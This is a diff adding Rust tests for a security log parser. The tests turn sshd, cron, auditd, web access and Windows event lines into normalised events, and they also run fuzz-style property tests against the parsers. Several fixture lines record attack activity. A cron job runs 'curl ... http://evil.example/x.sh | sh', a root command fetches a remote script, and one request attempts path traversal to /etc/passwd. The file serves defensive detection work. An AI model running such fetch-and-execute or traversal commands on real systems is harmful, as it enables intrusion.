@@ -1,0 +1,154 @@
+//! One event of each kind, from bytes to fields, facts and entities; and bytes that nobody should be able to break us with.
+
+use proptest::prelude::*;
+
+use super::normalise_parts;
+use crate::recognise;
+
+fn check(line: &str) -> String {
+    check_as(line, None)
+}
+
+fn check_as(line: &str, hint: Option<&str>) -> String {
+    let seen = recognise(line.as_bytes(), hint);
+    let (normalised, problem) = normalise_parts(&seen.source, seen.format, line.as_bytes());
+    let source = &normalised.log_source;
+    let entities: Vec<String> = normalised.entities.iter().map(ToString::to_string).collect();
+    let ocsf = serde_json::to_string(&normalised.ocsf).unwrap();
+    format!(
+        "{} {} | {} {} {}\n{}\n{}\n{}\n{}",
+        seen.source,
+        seen.format,
+        source.product.as_deref().unwrap_or("-"),
+        source.categories.join("+"),
+        source.service.as_deref().unwrap_or("-"),
+        normalised.flat,
+        ocsf,
+        entities.join(" "),
+        problem.map_or_else(|| "fine".to_owned(), |problem| problem.to_string()),
+    )
+}
+
+#[test]
+fn an_sshd_line_is_a_logon() {
+    insta::assert_snapshot!(check("2026-11-21T11:59:01.5+00:00 WEB1 sshd[812]: Failed password for invalid user admin from ::ffff:203.0.113.9 port 52100 ssh2"));
+}
+
+#[test]
+fn a_line_inside_json_is_the_same_event_with_the_outer_host() {
+    insta::assert_snapshot!(check(r#"{"message":"Accepted password for root from 203.0.113.9 port 52101 ssh2","source":"sshd","host":"Web1","pid":900,"team":"a"}"#));
+}
+
+#[test]
+fn a_journal_entry_is_a_syslog_event() {
+    insta::assert_snapshot!(check(r#"{"__REALTIME_TIMESTAMP":"1795262341000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sudo","_PID":"77","_TRANSPORT":"syslog","MESSAGE":"bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl http://203.0.113.9/x.sh"}"#));
+}
+
+#[test]
+fn a_cron_line_is_a_scheduled_job() {
+    insta::assert_snapshot!(check("Nov 21 11:59:01 web1 CRON[77]: (root) CMD (curl -s http://evil.example/x.sh | sh)"));
+}
+
+#[test]
+fn an_access_line_is_an_http_request() {
+    insta::assert_snapshot!(check(r#"203.0.113.9 - - [21/Nov/2026:12:00:01 +0000] "GET /../../etc/passwd?x=%27 HTTP/1.1" 404 162 "-" "curl/8""#));
+}
+
+#[test]
+fn an_execve_is_a_process_that_was_launched() {
+    insta::assert_snapshot!(check(concat!(
+        "node=Web1 type=SYSCALL msg=audit(1795262341.123:4711): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1000 uid=0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n",
+        "node=Web1 type=EXECVE msg=audit(1795262341.123:4711): argc=2 a0=\"curl\" a1=\"http://203.0.113.9/x.sh\"\n",
+        "node=Web1 type=CWD msg=audit(1795262341.123:4711): cwd=\"/tmp\"",
+    )));
+}
+
+#[test]
+fn a_file_written_under_cron_is_a_file_event() {
+    insta::assert_snapshot!(check(concat!(
+        "{\"message\":\"type=SYSCALL msg=audit(1795262341.123:4712): arch=c000003e syscall=257 success=yes exit=3 a2=241 pid=901 auid=4294967295 uid=0 ses=4294967295 comm=\\\"sh\\\" exe=\\\"/usr/bin/dash\\\"\",\"host\":\"web1\"}\n",
+        "{\"message\":\"type=CWD msg=audit(1795262341.123:4712): cwd=\\\"/etc\\\"\",\"host\":\"web1\"}\n",
+        "{\"message\":\"type=PATH msg=audit(1795262341.123:4712): item=1 name=\\\"cron.d/x\\\" nametype=CREATE\",\"host\":\"web1\"}",
+    )));
+}
+
+#[test]
+fn a_failed_logon_of_windows_names_both_users() {
+    insta::assert_snapshot!(check(r#"{"EventID":4625,"Channel":"Security","Computer":"DC1.corp.example","TargetUserName":"admin","SubjectUserName":"-","IpAddress":"203.0.113.9","IpPort":"50000","TargetLogonId":"0x0"}"#));
+}
+
+#[test]
+fn a_sysmon_process_has_parent_and_hashes() {
+    insta::assert_snapshot!(check(r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"W1","ProcessId":7112,"Image":"C:\\Windows\\System32\\reg.exe","CommandLine":"reg query HKLM","User":"CORP\\bob","ParentProcessId":6304,"ParentImage":"C:\\Windows\\cmd.exe","Hashes":"MD5=EB20E119AAF500E2752DC5A588B54C12"}"#));
+}
+
+#[test]
+fn other_json_keeps_its_names_and_gives_what_it_says() {
+    insta::assert_snapshot!(check(r#"{"Image":"/usr/bin/base64","CommandLine":"base64 -d /tmp/.x","User":"root","ParentImage":"/usr/bin/bash","host":"web1"}"#));
+    insta::assert_snapshot!(check(r#"{"source":{"ip":"203.0.113.9"},"destination":{"ip":"10.0.0.1","port":443},"host":{"name":"FW1"}}"#));
+}
+
+#[test]
+fn a_line_that_is_not_what_its_source_says_is_kept_with_the_reason() {
+    insta::assert_snapshot!(check_as("no access line", Some("nginx")));
+    insta::assert_snapshot!(check_as("words", Some("auth")));
+}
+
+const REAL: [&str; 10] = [
+    "<38>1 2026-11-21T12:00:00.123Z web1 sshd 812 ID47 [ex@1 a=\"x\"] Failed password for root from 203.0.113.9 port 1 ssh2",
+    "Nov 21 11:59:01 web1 sshd[812]: Failed password for invalid user admin from 203.0.113.9 port 52100 ssh2",
+    "Nov 21 11:59:01 web1 sudo:  bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c id",
+    "Nov 21 11:59:01 web1 usermod[1]: change user 'bob' shell from '/bin/sh' to '/bin/bash'",
+    "203.0.113.9 - bob [21/Nov/2026:12:00:01 +0000] \"GET /a?b=%27 HTTP/1.1\" 404 162 \"-\" \"curl/8\"",
+    "type=EXECVE msg=audit(1795262341.123:4711): argc=2 a0=\"curl\" a1=687474703A2F2F a2[0]=61\u{1d}UID=\"root\"",
+    "type=USER_AUTH msg=audit(1795262341.5:12): pid=7 msg='op=PAM acct=\"bob\" addr=203.0.113.9 res=failed'",
+    r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"P"}},"EventID":{"#text":4688},"Channel":"Security"},"EventData":{"Data":[{"@Name":"A","#text":"b"}]}}}"##,
+    r#"{"message":"Nov 21 11:59:01 web1 sshd[812]: Accepted password for root from 203.0.113.9 port 1 ssh2","host":"web1"}"#,
+    r#"{"winlog":{"event_id":"4625","channel":"Security","event_data":{"IpAddress":"203.0.113.9"}},"@timestamp":"2026-11-21T12:00:00Z"}"#,
+];
+
+fn everything(bytes: &[u8]) {
+    use crate::{Hints, Limits, formats, prepare};
+    let received = shieldops_model::Timestamp::from_secs(1_795_262_400);
+    for hint in [None, Some("sshd"), Some("nginx"), Some("auditd"), Some("windows"), Some("auth")] {
+        let seen = recognise(bytes, hint);
+        let (normalised, _) = normalise_parts(&seen.source, seen.format, bytes);
+        assert!(serde_json::from_str::<serde_json::Value>(&normalised.flat).is_ok_and(|flat| flat.is_object()), "{}", normalised.flat);
+        let _ = crate::event_time(&seen, bytes, received, &Limits::default());
+    }
+    for format in [formats::SYSLOG, formats::ACCESS, formats::AUDIT, formats::WINDOWS, formats::JSON, formats::TEXT] {
+        let _ = normalise_parts("x", format, bytes);
+    }
+    let body = bytes::Bytes::copy_from_slice(bytes);
+    let hints = Hints { source: Some("x"), content_type: None };
+    assert!(prepare(&body, hints, received, &Limits::default()).events.iter().all(|event| !event.raw.is_empty()));
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    #[test]
+    fn no_bytes_make_a_parser_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
+        everything(&bytes);
+    }
+
+    #[test]
+    fn no_broken_real_line_makes_a_parser_panic(
+        line in prop::sample::select(REAL.to_vec()),
+        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0..3_u8), 1..8),
+    ) {
+        let mut bytes = line.as_bytes().to_vec();
+        for (at, byte, what) in edits {
+            if bytes.is_empty() {
+                break;
+            }
+            let at = at.index(bytes.len());
+            match what {
+                0 => bytes[at] = byte,
+                1 => bytes.truncate(at),
+                _ => bytes.insert(at, b"\"'[]{}=: \\%"[usize::from(byte) % 11]),
+            }
+        }
+        everything(&bytes);
+    }
+}
